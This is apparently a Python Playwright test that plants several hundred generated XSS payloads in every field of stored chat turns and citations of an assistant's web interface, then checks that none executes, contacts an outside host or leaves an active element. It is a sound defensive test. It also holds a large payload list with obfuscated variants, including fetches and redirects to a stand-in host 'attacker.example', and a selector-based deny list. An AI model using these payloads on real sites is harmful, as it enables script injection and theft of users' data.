"""Hundreds of payloads in every field of a turn, in a real browser: `python -m tests.bench.active [HOW_MANY]`.

Each stands as question, answer, citation (title, section, quote, address, file) and follow-up question in stored
conversations, whose pages are then opened. Counted is what runs, what asks another host, and what makes an element or
an address that could.
"""

from __future__ import annotations

import sys
import tempfile
from itertools import islice, product
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Page, Request

from assistant.types import Answer, Citation, Status
from knowledge.library import Library
from tests.e2e.browser import launched
from tests.ui.serving import served
from ui.memory.database import Database
from ui.memory.memory import Memory
from ui.memory.store import TURNS_SHOWN
from ui.sessions import COOKIE, Sessions, signing_key

HOW_MANY = 500
OUTSIDE = "http://attacker.example"
ACTS = (
    "window.ran=(window.ran||0)+1",
    f"fetch('{OUTSIDE}/f')",
    "alert(1)",
    f"location='{OUTSIDE}/'",
    "document.title='ran'",
)
FORMS = (
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<iframe srcdoc='<script>parent.{act}</script>'>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<math><mtext></table><img src=x onerror={act}>",
    "<a href=javascript:{act}>x</a>",
    "[x](javascript:{act})",
    "![x](" + OUTSIDE + "/i.png?{act})",
    "<" + OUTSIDE + "/auto?{act}>",
    "javascript:{act}",
    "data:text/html,<script>{act}</script>",
    '"><script>{act}</script>',
    "'><img src=x onerror={act}>",
    "--><script>{act}</script>",
    "]]><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "`<img src=x onerror={act}>`",
    "> <img src=x onerror={act}>",
    "| <img src=x onerror={act}> |\n|---|\n| x |",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;img src=x onerror={act}&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "{{{{constructor.constructor('{act}')()}}}}",
    "${{{act}}}",
    "<meta http-equiv=refresh content='0;url=" + OUTSIDE + "'>{act}",
    "<link rel=stylesheet href=" + OUTSIDE + "/{act}.css>",
    "<base href=" + OUTSIDE + "/>{act}",
    "<form action=" + OUTSIDE + "><button autofocus onfocus={act}>",
    "<style>@import '" + OUTSIDE + "/{act}';</style>",
    "<object data=" + OUTSIDE + "/{act}>",
    "<embed src=" + OUTSIDE + "/{act}>",
    "<video src=" + OUTSIDE + "/{act} onerror={act}>",
    "<sv\u200bg onload={act}>",
    "\u202e<script>{act}</script>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
)
CASES = (str, str.upper, lambda text: text.replace("<", "<\n"))
FORBIDDEN = (
    "#chat :is(script, iframe, object, embed, img, video, base, meta, link, style, form:not([action^='/']),"
    " [onerror], [onload], [onfocus], [ontoggle], a[href^='javascript:' i], a[href^='data:' i])"
)


def payloads(many: int) -> list[str]:
    ways = product(CASES, FORMS, ACTS)
    return list(islice((change(form.format(act=act)) for change, form, act in ways), many))


def turn(payload: str) -> Answer:
    citation = Citation(
        number=1,
        document_id=payload[:80],
        file=payload,
        title=payload,
        published=None,
        url=payload,
        section=(payload,),
        quote=payload,
        start=0,
        end=5,
    )
    return Answer(
        text=f"{payload} [1]\n\n> {payload}",
        status=Status.ANSWERED,
        language="en",
        citations=(citation,),
        follow_ups=(payload,),
        notices=(payload,),
    )


def stored(data_dir: Path, wanted: list[str]) -> tuple[str, list[str]]:
    """Keep the payloads in conversations of one session; its id and theirs."""
    sessions = Sessions(signing_key(data_dir))
    session_id = sessions.new_id()
    name = sessions.name(session_id) or ""
    memory, kept = Memory(Database(data_dir)), []
    for begin in range(0, len(wanted), TURNS_SHOWN):
        conversation = ""
        for payload in wanted[begin : begin + TURNS_SHOWN]:
            conversation = memory.add(name, conversation, payload, turn(payload)).turn.conversation_id
        kept.append(conversation)
    memory.close()
    return session_id, kept


def visited(page: Page, server: str, conversations: list[str]) -> dict[str, int]:
    """What ran, what went out, what could act, and how many turns were shown."""
    found = {"ran": 0, "outside requests": 0, "active elements": 0, "turns shown": 0}

    def asked(request: Request) -> None:
        if urlsplit(request.url).netloc != urlsplit(server).netloc:
            found["outside requests"] += 1

    page.on("request", asked)
    page.on("dialog", lambda dialog: (found.update(ran=found["ran"] + 1), dialog.dismiss()))
    for conversation in conversations:
        page.goto(f"{server}/chat/{conversation}")
        page.wait_for_load_state("networkidle")
        found["ran"] += int(page.evaluate("window.ran || 0")) + int(page.title() == "ran")
        found["active elements"] += page.locator(FORBIDDEN).count()
        found["turns shown"] += page.locator("#chat .answer").count()
    return found


def would_be_seen(page: Page) -> bool:
    """Whether a payload that nothing escapes runs in this browser, and asks for what is elsewhere."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.set_content(f"<img src={OUTSIDE}/x.png onerror='window.ran=1'>")
    page.wait_for_function("window.ran === 1")
    return any(url.startswith(OUTSIDE) for url in asked)


def main() -> int:
    many = int(sys.argv[1]) if len(sys.argv) > 1 else HOW_MANY
    wanted = payloads(many)
    with tempfile.TemporaryDirectory() as temporary:
        data_dir = Path(temporary) / "data"
        Library.open(data_dir).close()
        session_id, conversations = stored(data_dir, wanted)
        with served(data_dir) as server, launched() as browser:
            context = browser.new_context()
            context.add_cookies([{"name": COOKIE, "value": session_id, "url": server}])
            seen = would_be_seen(context.new_page())
            found = visited(context.new_page(), server, conversations)
    print(f"{len(wanted)} payloads in 8 fields each, in a browser: {found}")
    bad = (
        not seen
        or found["ran"]
        or found["outside requests"]
        or found["active elements"]
        or found["turns shown"] < len(wanted)
    )
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
